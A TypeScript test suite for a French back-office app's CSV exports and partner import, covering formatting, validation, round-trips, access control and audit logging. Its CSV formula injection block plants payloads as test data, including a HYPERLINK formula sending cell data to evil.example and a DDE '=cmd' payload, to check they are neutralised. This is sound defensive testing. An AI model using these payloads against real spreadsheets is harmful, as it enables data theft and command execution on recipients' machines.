import { beforeAll, describe, expect, it } from 'vitest'
import type { PartnerImportPreview, PartnerImportResult } from '@/contract/backoffice.ts'
import { sql } from 'kysely'
import type {
  AuditEntry,
  AuditPage,
  AuthUser,
  DiscountOffer,
  Partner,
  PartnerPage,
  UserPage,
} from '@/contract/schemas.ts'
import { apiPaths } from '@/contract/paths.ts'
import { couponUseStatus, createOffer, createPartner, fileForm, adminServerForFile } from './helpers.ts'

const t = adminServerForFile()
let alice: AuthUser
let partner: Partner
let offer: DiscountOffer

const BOM = '\uFEFF'
const lines = (text: string) => text.replace(BOM, '').split('\r\n')

beforeAll(async () => {
  alice = await t.api.register({ firstname: 'Alice', lastname: 'Martin', email: 'alice@test.fr' })
  partner = await createPartner(t.api, t.admin, {
    name: 'Boulangerie; « Le Pain »',
    description: 'Pains, viennoiseries\net gâteaux.',
    location: { address: '2 rue Haute', city: 'Aix', position: { lat: 43.5297, lng: 5.4474 } },
    categories: [{ label: 'Restaurants' }, { label: 'Boulangeries' }],
  })
  offer = await createOffer(t.api, t.admin, partner.partnerId.id, {
    status: 'ENABLED',
    libelle: '-10 %',
    expirationDate: null,
  })
  expect(await couponUseStatus(t.api, alice, alice, partner, offer)).toBe(200)
  const reactivated = await t.api.put(
    apiPaths.reactivateOffer(alice.userId.id, offer.id.id),
    { motif: 'Erreur de caisse' },
    t.asAdmin(),
  )
  expect(reactivated.status).toBe(200)
  expect(await couponUseStatus(t.api, alice, alice, partner, offer)).toBe(200)
})

/** What a spreadsheet reads: the raw bytes of the answer. */
async function download(path: string, token = t.admin.access_token) {
  const res = await fetch(t.server.url + path, { headers: { authorization: `Bearer ${token}` } })
  return { res, bytes: Buffer.from(await res.arrayBuffer()) }
}

describe('CSV exports', () => {
  it('partners: BOM, `;`, CRLF, French headers, quoted cells, decimal comma, dd/MM/yyyy', async () => {
    const { res, bytes } = await download('/api/exports/partners.csv')
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="partenaires-\d{4}-\d{2}-\d{2}\.csv"$/,
    )
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = bytes.toString('utf8')
    expect(lines(text)[0]).toBe(
      'Id;Dénomination;Description;SIREN;Adresse;Ville;Latitude;Longitude;Email;Téléphone;Prénom gérant;Nom gérant;Catégories;Statut;Créé le;Modifié le;Version',
    )
    // The version of the partner's ETag, which the import compares (import-versions.test.ts).
    const etag = (await t.api.get(apiPaths.partner(partner.partnerId.id), t.asAdmin())).headers.get('etag')
    const version = /-v(\d+)"$/.exec(etag ?? '')?.[1]
    // Today as the server writes it: in its time zone (APP_TIME_ZONE, Europe/Paris), not the machine's (from
    // 23:00 UTC on, Paris is already on the next day).
    const ddmmyyyy = new Intl.DateTimeFormat('fr-FR', {
      timeZone: 'Europe/Paris',
      day: '2-digit',
      month: '2-digit',
      year: 'numeric',
    }).format(new Date())
    expect(text).toContain(
      `${partner.partnerId.id};"Boulangerie; « Le Pain »";"Pains, viennoiseries\net gâteaux.";;2 rue Haute;Aix;43,5297;5,4474;contact@partenaire.fr;04 91 00 00 00;Jean;Dupont;Restaurants | Boulangeries;Actif;${ddmmyyyy};${ddmmyyyy};${version}\r\n`,
    )
  })

  it('users: one line per user with role and uses', async () => {
    const { res, bytes } = await download('/api/exports/users.csv')
    expect(res.status).toBe(200)
    const text = bytes.toString('utf8')
    expect(text.startsWith(BOM)).toBe(true)
    expect(lines(text)[0]).toBe('Id;Prénom;Nom;Email;Statut;Rôle;Inscrit le;Coupons utilisés')
    expect(text).toMatch(
      new RegExp(
        `\\r\\n${alice.userId.id};Alice;Martin;alice@test.fr;Actif;Utilisateur;\\d\\d/\\d\\d/\\d{4};2\\r\\n`,
      ),
    )
    expect(text).toMatch(/;admin@test\.fr;Actif;Administrateur;/)
  })

  it('coupon uses: every use, the reactivated one marked', async () => {
    const { res, bytes } = await download('/api/exports/coupon-uses.csv')
    expect(res.status).toBe(200)
    const rows = lines(bytes.toString('utf8'))
    expect(rows[0]).toBe(
      'Utilisé le;Utilisateur;Email;Partenaire;Id partenaire;Coupon;Id coupon;Réactivé;Réactivé le',
    )
    const uses = rows.slice(1).filter(Boolean)
    expect(uses).toHaveLength(2)
    expect(uses[0]).toMatch(
      new RegExp(
        `^\\d\\d/\\d\\d/\\d{4} \\d\\d:\\d\\d;Alice Martin;alice@test.fr;"Boulangerie; « Le Pain »";${partner.partnerId.id};'-10 %;${offer.id.id};oui;\\d\\d/\\d\\d/\\d{4} \\d\\d:\\d\\d$`,
      ),
    )
    expect(uses[1]!.endsWith(';non;')).toBe(true)
  })

  it('streams a table larger than one batch, in the list’s order', async () => {
    for (let i = 0; i < 3; i++) await t.api.register({ email: `batch-${i}@test.fr` })
    const csv = [
      'Dénomination;Description;Adresse;Ville;Latitude;Longitude;Email;Téléphone;Catégories',
      ...Array.from(
        { length: 1200 },
        (_, i) => `Lot ${i};Desc;1 rue A;Lyon;45,76;4,83;lot${i}@test.fr;0400000000;Restaurants`,
      ),
    ].join('\r\n')
    const res = await t.api.request('POST', '/api/imports/partners', {
      ...t.asAdmin(),
      raw: fileForm(csv, 'lot.csv', 'text/csv'),
    })
    expect(res.status).toBe(201)
    const { bytes } = await download('/api/exports/partners.csv?sort=-name')
    const ids = lines(bytes.toString('utf8'))
      .slice(1)
      .filter((line) => /^\d+;/.test(line))
      .map((line) => Number(line.split(';')[0]))
    expect(ids.length).toBeGreaterThanOrEqual(1201)
    expect(new Set(ids).size).toBe(ids.length)
    // Batch after batch, the rows keep the order of the list's pages for the same sort.
    const listed: number[] = []
    for (let page = 0; listed.length < ids.length; page++) {
      const res = await t.api.get<PartnerPage>(
        `/api/partners?sort=-name&pageSize=100&page=${page}`,
        t.asAdmin(),
      )
      listed.push(...res.body.items.map((p) => p.partnerId.id))
      if (res.body.items.length === 0) break
    }
    expect(ids).toEqual(listed)
  })

  it('admin only: 401 without a token, 403 for a user', async () => {
    for (const path of [
      '/api/exports/partners.csv',
      '/api/exports/users.csv',
      '/api/exports/coupon-uses.csv',
    ]) {
      const anonymous = await t.api.get<{ message: string }>(path)
      expect(anonymous.status).toBe(401)
      expect(anonymous.body.message).toMatch(/[a-zé]/)
      expect((await t.api.get(path, { token: alice.access_token })).status).toBe(403)
    }
  })
})

const header =
  'Dénomination;Description;Adresse;Code postal;Ville;Latitude;Longitude;Email;Téléphone;Catégories;Statut'
const send = (path: string, csv: string | Buffer, token = t.admin.access_token) =>
  t.api.request(path.includes('preview') ? 'POST' : 'POST', path, {
    token,
    raw: fileForm(csv, 'partenaires.csv', 'text/csv'),
  })

describe('partner import', () => {
  const good = (name: string, categories = 'Restaurants') =>
    `${name};Une description;3 rue Basse;13100;Aix-en-Provence;43,52;5,44;${name.toLowerCase().replace(/\W/g, '')}@test.fr;04 42 00 00 00;${categories};Actif`

  it('dry run: preview of the good lines, French errors per line, nothing written', async () => {
    const csv = [
      header,
      good('Import Un'),
      'Import Deux;Desc;3 rue Basse;1310;Aix;43,52;5,44;deux@test.fr;0442000000;Restaurants;Actif',
      ';Desc;3 rue Basse;13100;Aix;43,52;5,44;trois@test.fr;0442000000;Restaurants;Actif',
      'Import Quatre;Desc;3 rue Basse;13100;Aix;quarante;5,44;quatre@test.fr;0442000000;Restaurants;Actif',
      good('Import Cinq', 'Restaurants | Librairies'),
      'Import Six;Desc;3 rue Basse;13100;Aix;43,52;5,44;pas-un-email;0442000000;Restaurants;Actif',
      'Import Sept;Desc;3 rue Basse;13100;Aix;43,52;5,44;sept@test.fr;0442000000;Restaurants;Inconnu',
    ].join('\r\n')
    const res = await send('/api/imports/partners/preview', csv)
    expect(res.status).toBe(200)
    const preview = res.body as PartnerImportPreview
    expect(preview).toMatchObject({ lineCount: 7, validCount: 1, errorCount: 6, newCategories: [] })
    expect(preview.rows).toEqual([
      {
        line: 2,
        name: 'Import Un',
        city: 'Aix-en-Provence',
        email: 'importun@test.fr',
        categories: ['Restaurants'],
      },
    ])
    expect(preview.errors).toEqual([
      { line: 3, column: 'Code postal', message: 'Ligne 3 : le code postal doit comporter 5 chiffres.' },
      { line: 4, column: 'Dénomination', message: 'Ligne 4 : le champ « Dénomination » est obligatoire.' },
      { line: 5, column: 'Latitude', message: 'Ligne 5 : la latitude doit être un nombre (ex. 43,2965).' },
      {
        line: 6,
        column: 'Catégories',
        message:
          'Ligne 6 : la catégorie « Librairies » n’existe pas (cochez « Créer les catégories manquantes » pour la créer).',
      },
      { line: 7, column: 'Email', message: 'Ligne 7 : l’adresse e-mail n’est pas valide.' },
      {
        line: 8,
        column: 'Statut',
        message: 'Ligne 8 : le statut « Inconnu » est inconnu (Actif, Prospect ou Désactivé).',
      },
    ])
    const partners = await t.api.get<PartnerPage>('/api/partners?pageSize=100', t.asAdmin())
    expect(partners.body.items.some((p) => p.name === 'Import Un')).toBe(false)
  })

  it('a file with an error line imports nothing (all or nothing)', async () => {
    const csv = [header, good('Tout Ou Rien'), good('Tout Ou Rien Deux').replace('13100', 'ABCDE')].join('\n')
    const res = await send('/api/imports/partners', csv)
    expect(res.status).toBe(400)
    expect((res.body as { message: string }).message).toBe(
      'Aucun partenaire importé : le fichier contient 1 erreur (Ligne 3 : le code postal doit comporter 5 chiffres.).',
    )
    const partners = await t.api.get<PartnerPage>('/api/partners?pageSize=100', t.asAdmin())
    expect(partners.body.items.some((p) => p.name.startsWith('Tout Ou Rien'))).toBe(false)
  })

  it('creates missing categories only when asked; `,` and no BOM accepted; the partner is the form’s', async () => {
    const csv = [
      header.replaceAll(';', ','),
      'Librairie Page,"Livres, BD",5 rue des Livres,13001,Marseille,43.3,5.37,page@test.fr,04 91 11 11 11,Librairies | restaurants,Prospect',
    ].join('\r\n')
    const refused = await send('/api/imports/partners', csv)
    expect(refused.status).toBe(400)
    expect((refused.body as { message: string }).message).toContain(
      'la catégorie « Librairies » n’existe pas',
    )

    const preview = await send('/api/imports/partners/preview?createCategories=true', csv)
    expect(preview.body).toMatchObject({ validCount: 1, errorCount: 0, newCategories: ['Librairies'] })

    const done = await send('/api/imports/partners?createCategories=true', `${BOM}${csv}`)
    expect(done.status).toBe(201)
    expect(done.body as PartnerImportResult).toEqual({
      created: 1,
      updated: 0,
      ignored: 0,
      categoriesCreated: ['Librairies'],
    })
    // The import is an administrator write: one journal entry for the file.
    const journal = await t.api.get<AuditPage>(`${apiPaths.audit()}?action=partner.import`, t.asAdmin())
    expect(journal.body.items[0]).toMatchObject({
      targetLabel: '1 partenaire',
      after: { created: 1, updated: [], categoriesCreated: ['Librairies'] },
    })
    const partners = await t.api.get<PartnerPage>('/api/partners?pageSize=100', t.asAdmin())
    const page = partners.body.items.find((p) => p.name === 'Librairie Page')!
    expect(page).toMatchObject({
      description: 'Livres, BD',
      location: {
        address: '5 rue des Livres, 13001 Marseille',
        city: 'Marseille',
        position: { lat: 43.3, lng: 5.37 },
      },
      email: 'page@test.fr',
      status: 'PROSPECT',
    })
    expect(page.categories.map((c) => c.label)).toEqual(['Librairies', 'Restaurants'])
    const categories = await t.api.get<{ label: string }[]>('/api/partners/categories', t.asAdmin())
    expect(categories.body.filter((c) => c.label === 'Librairies')).toHaveLength(1)
  })

  it('the export reads back as an import', async () => {
    const { bytes } = await download('/api/exports/partners.csv')
    const preview = await send('/api/imports/partners/preview', bytes)
    const body = preview.body as PartnerImportPreview
    expect(body.errorCount).toBe(0)
    expect(body.validCount).toBe(body.lineCount)
    // Every exported line keeps its Id: re-importing the export updates, it does not duplicate.
    expect(body.updateCount).toBe(body.lineCount)
    expect(body.rows.find((row) => row.name === 'Boulangerie; « Le Pain »')).toMatchObject({
      categories: ['Restaurants', 'Boulangeries'],
    })
  })

  it('an edited export goes back in: lines with an Id update their partner, lines without one are new', async () => {
    const rated = await createPartner(t.api, t.admin, {
      name: 'Cave Notée',
      rating: 4.6,
      userRatingsTotal: 52,
      categories: [{ label: 'Restaurants' }],
    })
    const id = rated.partnerId.id
    const before = (await t.api.get<PartnerPage>('/api/partners?q=Cave', t.asAdmin())).body.total
    const idHeader = `Id;${header}`
    const edited = good('Cave Notée Rebaptisée', 'Restaurants | Boulangeries')
    const wrong = [
      idHeader,
      `${id};${edited}`,
      `;${good('Nouvelle Cave')}`,
      `999999;${good('Cave Fantôme')}`,
      `${id};${good('Cave En Double')}`,
      `douze;${good('Cave Douze')}`,
    ].join('\r\n')
    const preview = (await send('/api/imports/partners/preview', wrong)).body as PartnerImportPreview
    expect(preview).toMatchObject({ lineCount: 5, validCount: 2, updateCount: 1, errorCount: 3 })
    expect(preview.rows.map((row) => [row.line, row.partnerId, row.name])).toEqual([
      [2, id, 'Cave Notée Rebaptisée'],
      [3, undefined, 'Nouvelle Cave'],
    ])
    expect(preview.errors).toEqual([
      {
        line: 4,
        column: 'Id',
        message: 'Ligne 4 : aucun partenaire n’a l’identifiant 999999 : videz la colonne Id pour le créer.',
      },
      { line: 5, column: 'Id', message: `Ligne 5 : le partenaire ${id} figure déjà ligne 2.` },
      {
        line: 6,
        column: 'Id',
        message:
          'Ligne 6 : l’identifiant « douze » n’est pas un nombre entier (colonne Id ; vide pour un nouveau partenaire).',
      },
    ])

    const done = await send(
      '/api/imports/partners',
      [idHeader, `${id};${edited}`, `;${good('Nouvelle Cave')}`].join('\n'),
    )
    expect(done.status).toBe(201)
    expect(done.body as PartnerImportResult).toEqual({
      created: 1,
      updated: 1,
      ignored: 0,
      categoriesCreated: [],
    })
    const after = (await t.api.get<PartnerPage>('/api/partners?q=Cave&pageSize=100', t.asAdmin())).body
    expect(after.total).toBe(before + 1)
    const updated = after.items.find((p) => p.partnerId.id === id)!
    // The file's fields replace the partner's; the rating, which the file does not carry, stays.
    expect(updated).toMatchObject({
      name: 'Cave Notée Rebaptisée',
      location: { city: 'Aix-en-Provence', address: '3 rue Basse, 13100 Aix-en-Provence' },
      rating: 4.6,
      userRatingsTotal: 52,
    })
    expect(updated.categories.map((c) => c.label)).toEqual(['Restaurants', 'Boulangeries'])
    expect(after.items.filter((p) => p.name === 'Nouvelle Cave')).toHaveLength(1)
    const journal = await t.api.get<AuditPage>(`${apiPaths.audit()}?action=partner.import`, t.asAdmin())
    expect(journal.body.items[0]).toMatchObject({ after: { created: 1, updated: [id] } })
  })

  it('refuses what is not an import: missing columns, bad files, too large, not admin', async () => {
    const missing = await send('/api/imports/partners/preview', 'Nom;Ville\r\nA;B')
    expect(missing.status).toBe(400)
    expect((missing.body as { message: string }).message).toBe(
      'Colonnes manquantes : « Description », « Adresse », « Latitude », « Longitude », « Email », « Téléphone », « Catégories ». La première ligne doit nommer les colonnes, comme dans l’export.',
    )
    const broken = await send('/api/imports/partners/preview', `${header}\r\n"pas fermé;a;b`)
    expect(broken.status).toBe(400)
    expect((broken.body as { message: string }).message).toMatch(/^Le fichier n’est pas un CSV lisible/)
    const empty = await send('/api/imports/partners', header)
    expect(empty.status).toBe(400)
    expect((empty.body as { message: string }).message).toBe('Le fichier ne contient aucun partenaire.')

    const big = Buffer.alloc(t.server.config.maxUploadBytes + 10, 'a')
    const tooLarge = await send('/api/imports/partners/preview', big)
    expect(tooLarge.status).toBe(413)
    expect((tooLarge.body as { message: string }).message).toBe(
      `Le fichier dépasse ${Math.round(t.server.config.maxUploadBytes / 1024 / 1024)} Mo : découpez-le en plusieurs fichiers.`,
    )
    const noFile = await t.api.request('POST', '/api/imports/partners', { ...t.asAdmin(), body: {} })
    expect(noFile.status).toBe(415)

    expect((await send('/api/imports/partners/preview', header, alice.access_token)).status).toBe(403)
    expect((await t.api.request('POST', '/api/imports/partners', { raw: fileForm(header) })).status).toBe(401)
  })
})

/** The Journal's newest entry. */
const latestEntry = async () =>
  (await t.api.get<AuditPage>(`${apiPaths.audit()}?pageSize=1`, t.asAdmin())).body.items[0]!

describe('CSV formula injection (CWE-1236)', () => {
  const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
  let mallory: AuthUser
  let trap: Partner

  beforeAll(async () => {
    // Text that starts like a formula is still a name: registration and the partner form take it as typed.
    mallory = await t.api.register({ firstname: hyperlink, lastname: '+SUM(1;2)', email: 'mallory@test.fr' })
    expect(mallory).toMatchObject({ firstname: hyperlink, lastname: '+SUM(1;2)' })
    trap = await createPartner(t.api, t.admin, {
      name: '@Piège à tableur',
      representativeFirstName: "=cmd|' /C calc'!A0",
      representativeLastName: '-Dupont',
      phone: '+33 4 91 00 00 00',
      location: { address: '1 quai Ouest', city: 'Brest', position: { lat: 48.39, lng: -4.4861 } },
    })
    const trapOffer = await createOffer(t.api, t.admin, trap.partnerId.id, {
      status: 'ENABLED',
      libelle: '=2+3',
      expirationDate: null,
    })
    expect(await couponUseStatus(t.api, mallory, mallory, trap, trapOffer)).toBe(200)
    const given = await t.api.put(
      apiPaths.reactivateOffer(mallory.userId.id, trapOffer.id.id),
      { motif: '@SUM(1+1)*cmd' },
      t.asAdmin(),
    )
    expect(given.status).toBe(200)
  })

  it('users: the names are written with a leading quote', async () => {
    const line = lines((await download('/api/exports/users.csv?q=mallory')).bytes.toString('utf8'))[1]!
    expect(
      line.startsWith(
        `${mallory.userId.id};"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")";"'+SUM(1;2)";`,
      ),
    ).toBe(true)
    expect(line).toMatch(/;mallory@test\.fr;Actif;Utilisateur;\d\d\/\d\d\/\d{4};1$/)
  })

  it('partners: name, manager and phone quoted; a negative longitude stays a number', async () => {
    const text = (await download('/api/exports/partners.csv?q=piege')).bytes.toString('utf8')
    const line = lines(text)[1]!
    expect(line).toContain(`${trap.partnerId.id};'@Piège à tableur;`)
    expect(line).toContain(
      `;48,39;-4,4861;contact@partenaire.fr;'+33 4 91 00 00 00;'=cmd|' /C calc'!A0;'-Dupont;`,
    )
  })

  it('coupon uses: the user, the coupon and the partner quoted', async () => {
    const text = (await download('/api/exports/coupon-uses.csv')).bytes.toString('utf8')
    const line = lines(text).find((row) => row.includes('mallory@test.fr'))!
    expect(line).toContain(
      `;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"") +SUM(1;2)";mallory@test.fr;'@Piège à tableur;${trap.partnerId.id};'=2+3;`,
    )
  })

  it('journal: the motif quoted', async () => {
    const text = (await download(`${apiPaths.auditExport()}?action=coupon.reactivate`)).bytes.toString('utf8')
    expect(lines(text).find((row) => row.includes('mallory') || row.includes('HYPERLINK'))).toContain(
      ";'@SUM(1+1)*cmd;",
    )
  })

  it('the import takes the export back as it was: exactly the quote the export added goes', async () => {
    const exported = (await download('/api/exports/partners.csv?q=piege')).bytes
    const preview = (await send('/api/imports/partners/preview', exported)).body as PartnerImportPreview
    expect(preview).toMatchObject({ errorCount: 0, updateCount: 1 })
    expect(preview.rows[0]).toMatchObject({ partnerId: trap.partnerId.id, name: '@Piège à tableur' })
    expect((await send('/api/imports/partners', exported)).status).toBe(201)
    const after = await t.api.get<Partner>(apiPaths.partner(trap.partnerId.id), t.asAdmin())
    expect(after.body).toMatchObject({
      name: '@Piège à tableur',
      representativeFirstName: "=cmd|' /C calc'!A0",
      representativeLastName: '-Dupont',
      phone: '+33 4 91 00 00 00',
      location: { position: { lat: 48.39, lng: -4.4861 } },
    })
    // A file written by hand, without quotes, still imports such names as text.
    const handWritten = [
      header,
      '=Chez Léon;Une description;3 rue Basse;13100;Aix;43,52;5,44;leon@test.fr;04 42 00 00 00;Restaurants;Actif',
    ].join('\r\n')
    const created = await send('/api/imports/partners/preview', handWritten)
    expect((created.body as PartnerImportPreview).rows[0]).toMatchObject({ name: '=Chez Léon' })
  })
})

describe('exports follow the list: same search, filters and sort; each one in the Journal', () => {
  beforeAll(async () => {
    for (const [name, city, status] of [
      ['Bouchon Lyonnais', 'Lyon', 'ACTIF'],
      ['Atelier de Lyon', 'Lyon', 'ACTIF'],
      ['Ancien Lyonnais', 'Lyon', 'DESACTIVE'],
      ['Calanque', 'Marseille', 'ACTIF'],
    ] as const)
      await createPartner(t.api, t.admin, {
        name,
        status,
        location: { address: '1 place Bellecour', city, position: { lat: 45.75, lng: 4.83 } },
      })
  })

  const names = (text: string) =>
    lines(text)
      .slice(1)
      .filter(Boolean)
      .map((line) => line.split(';')[1])

  it('partners: ?q=lyon&status=ACTIF&sort=-name gives the list’s rows, and the Journal says so', async () => {
    const query = 'q=lyon&status=ACTIF&sort=-name'
    const list = (await t.api.get<PartnerPage>(`/api/partners?${query}&pageSize=100`, t.asAdmin())).body
    expect(list.items.map((p) => p.name)).toEqual(['Bouchon Lyonnais', 'Atelier de Lyon'])
    const { res, bytes } = await download(`/api/exports/partners.csv?${query}`)
    expect(res.status).toBe(200)
    expect(names(bytes.toString('utf8'))).toEqual(list.items.map((p) => p.name))
    expect(await latestEntry()).toMatchObject({
      action: 'data.export',
      targetType: 'export',
      targetId: null,
      targetLabel: 'Partenaires, 2 lignes',
      actor: { id: t.admin.userId.id },
      after: { export: 'Partenaires', filters: { q: 'lyon', status: 'ACTIF', sort: '-name' }, rows: 2 },
    })
  })

  it('users: search, role and sort as the list; e-mail addresses leaving are recorded', async () => {
    const query = 'q=test.fr&role=ROLE_USER&sort=-email'
    const list = (await t.api.get<UserPage>(`/api/users?${query}&pageSize=100`, t.asAdmin())).body
    expect(list.items.some((u) => u.email === 'mallory@test.fr')).toBe(true)
    expect(list.items.some((u) => u.roles.includes('ROLE_ADMIN'))).toBe(false)
    const text = (await download(`/api/exports/users.csv?${query}`)).bytes.toString('utf8')
    const emails = lines(text)
      .slice(1)
      .filter(Boolean)
      .map((line) => line.split(';').at(-5))
    expect(emails).toEqual(list.items.map((u) => u.email))
    const entry: AuditEntry = await latestEntry()
    expect(entry).toMatchObject({
      action: 'data.export',
      targetLabel: `Utilisateurs, ${list.total} lignes`,
      after: { export: 'Utilisateurs', filters: { q: 'test.fr', role: 'ROLE_USER', sort: '-email' } },
    })
  })

  it('coupon uses and the Journal’s own export are recorded; the latter’s file stops before its entry', async () => {
    await download('/api/exports/coupon-uses.csv')
    const uses = await latestEntry()
    expect(uses).toMatchObject({ action: 'data.export', after: { export: 'Utilisations de coupons' } })
    const { bytes } = await download(`${apiPaths.auditExport()}?action=data.export`)
    const rows = lines(bytes.toString('utf8')).slice(1).filter(Boolean)
    const own = await latestEntry()
    expect(own).toMatchObject({
      action: 'data.export',
      after: { export: 'Journal', filters: { action: 'data.export' }, rows: rows.length },
    })
    expect(rows[0]).toContain(';Export CSV;Export (Utilisations de coupons, ')
  })

  it('a sort the list refuses is refused in French, and nothing is recorded', async () => {
    const before = await latestEntry()
    for (const path of ['/api/exports/partners.csv?sort=siren', '/api/exports/users.csv?role=ROLE_ROOT']) {
      const res = await t.api.get<{ message: string }>(path, t.asAdmin())
      expect(res.status, path).toBe(400)
      expect(res.body.message).toMatch(/[éè«]/)
    }
    expect((await latestEntry()).id).toBe(before.id)
  })
})

describe('dates and times in APP_TIME_ZONE (Europe/Paris by default)', () => {
  it('a use at 06:07 UTC in winter is 07:07; near midnight UTC the Paris day is written', async () => {
    const db = t.server.handle.db
    const someone = await t.api.register({ email: 'horaires@test.fr' })
    await sql`insert into offer_uses (user_id, offer_id, used_at, reactivated_at)
      values (${someone.userId.id}, ${offer.id.id}, '2026-01-15T06:07:00Z', '2026-03-31T22:30:00Z')`.execute(
      db,
    )
    await sql`update partners set created_at = '2026-01-15T23:30:00Z' where id = ${partner.partnerId.id}`.execute(
      db,
    )
    const uses = (await download('/api/exports/coupon-uses.csv')).bytes.toString('utf8')
    expect(lines(uses).find((line) => line.includes('horaires@test.fr'))).toMatch(
      /^15\/01\/2026 07:07;.*;oui;01\/04\/2026 00:30$/,
    )
    const partners = (await download('/api/exports/partners.csv?q=pain')).bytes.toString('utf8')
    expect(lines(partners)[1]).toMatch(/;16\/01\/2026;\d\d\/\d\d\/\d{4};\d+$/)
  })
})
